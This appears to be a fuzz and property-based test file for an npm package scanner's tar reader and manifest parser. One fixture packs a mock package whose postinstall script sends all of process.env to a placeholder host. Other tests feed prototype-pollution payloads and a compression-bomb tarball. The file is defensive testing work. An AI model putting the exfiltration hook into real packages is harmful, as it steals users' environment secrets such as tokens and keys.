// Property-based tests over the tar reader and the manifest parser: whatever the bytes, unpacking
// returns a result (files and findings) in bounded time and never throws an untyped exception.
import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { unpackTarball } from '../src/unpack/tarball.js';
import { parseManifest } from '../src/unpack/manifest.js';
import { analyzeTarball } from '../src/scan.js';
import { packTarball } from './helpers/registry.js';

const RUNS = Number(process.env.TOLLGATE_FUZZ_RUNS ?? 150);

/** Flip, truncate or splice bytes of a valid tarball: most of the interesting inputs are near-valid. */
const mutation = fc.record({
  flips: fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 12 }),
  cut: fc.option(fc.nat()),
  gz: fc.boolean(),
});

describe('fuzz: tar reader', () => {
  test('random bytes never throw', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), async (bytes) => {
        const res = await unpackTarball(Buffer.from(bytes));
        expect(res.files).toBeInstanceOf(Map);
        expect(Array.isArray(res.findings)).toBe(true);
      }),
      { numRuns: RUNS },
    );
  });

  test('mutated valid tarballs never throw, never yield escaping paths, and still get a verdict', async () => {
    const base = zlib.gunzipSync(
      await packTarball({
        'package.json': JSON.stringify({ name: 'fz', version: '1.0.0', scripts: { postinstall: 'node i.js' } }),
        'i.js': "require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));",
        'lib/a.js': 'module.exports = 1;',
      }),
    );
    await fc.assert(
      fc.asyncProperty(mutation, async ({ flips, cut, gz }) => {
        const raw = Buffer.from(base);
        for (const [pos, val] of flips) raw[pos % raw.length] = val;
        const trimmed = cut === null ? raw : raw.subarray(0, cut % (raw.length + 1));
        const input = gz ? zlib.gzipSync(trimmed) : trimmed;
        const res = await unpackTarball(input);
        for (const f of res.findings) expect(typeof f.message).toBe('string');
        for (const p of res.files.keys()) {
          expect(p.startsWith('/')).toBe(false);
          expect(p.split('/')).not.toContain('..');
        }
        // The whole pipeline copes too.
        const report = await analyzeTarball({ data: input, spec: 'fuzz.tgz' });
        expect(['malicious', 'suspicious', 'clean', 'error']).toContain(report.verdict);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('fuzz: manifest parser', () => {
  test('any JSON value or text gives a manifest or an error, and never pollutes prototypes', () => {
    fc.assert(
      fc.property(fc.oneof(fc.json(), fc.string(), fc.jsonValue().map((v) => JSON.stringify({ __proto__: v, constructor: { prototype: { polluted: v } }, scripts: v }))), (text) => {
        const res = parseManifest(Buffer.from(text));
        expect(res.manifest !== undefined || typeof res.error === 'string').toBe(true);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        if (res.manifest?.scripts) for (const v of Object.values(res.manifest.scripts)) expect(typeof v).toBe('string');
      }),
      { numRuns: RUNS * 3 },
    );
  });
});

describe('small tarballs are decompressed at once, large or odd ones streamed', () => {
  test('both paths read the same files, whatever the chunking', async () => {
    const files = {
      'package.json': JSON.stringify({ name: 'two-paths', version: '1.0.0' }),
      'index.js': "module.exports = require('./lib/a.js');\n",
      'lib/a.js': 'module.exports = 1;\n'.repeat(500),
    };
    const small = await packTarball(files);
    // Incompressible padding pushes the same files past the one-call size.
    const large = await packTarball({ ...files, 'pad.bin': randomBytes(3 * 1024 * 1024) });
    expect(small.length).toBeLessThan(2 * 1024 * 1024);
    expect(large.length).toBeGreaterThan(2 * 1024 * 1024);
    const a = await unpackTarball(small);
    const b = await unpackTarball(large);
    for (const f of Object.keys(files)) expect(b.files.get(f)?.data?.toString()).toBe(a.files.get(f)?.data?.toString());
    expect(a.findings).toEqual([]);
  });

  test('a small tarball that decompresses past the one-call cap is streamed whole, files after the big one included', async () => {
    const tgz = await packTarball({
      'package.json': JSON.stringify({ name: 'zeros', version: '1.0.0' }),
      'zeros.bin': Buffer.alloc(40 * 1024 * 1024),
      'after.js': 'module.exports = "after";\n',
    });
    expect(tgz.length).toBeLessThan(2 * 1024 * 1024);
    const pkg = await unpackTarball(tgz);
    expect(pkg.files.get('after.js')?.data?.toString()).toContain('after');
    expect(pkg.files.get('zeros.bin')?.partial).toBe(true);
    expect(pkg.stats.unpackedBytes).toBeGreaterThan(40 * 1024 * 1024);
    // 40 MB from a few tens of KB is past the bomb ratio: still reported on the streaming path.
    expect(pkg.findings.some((f) => /compression ratio/.test(f.message))).toBe(true);
  });
});
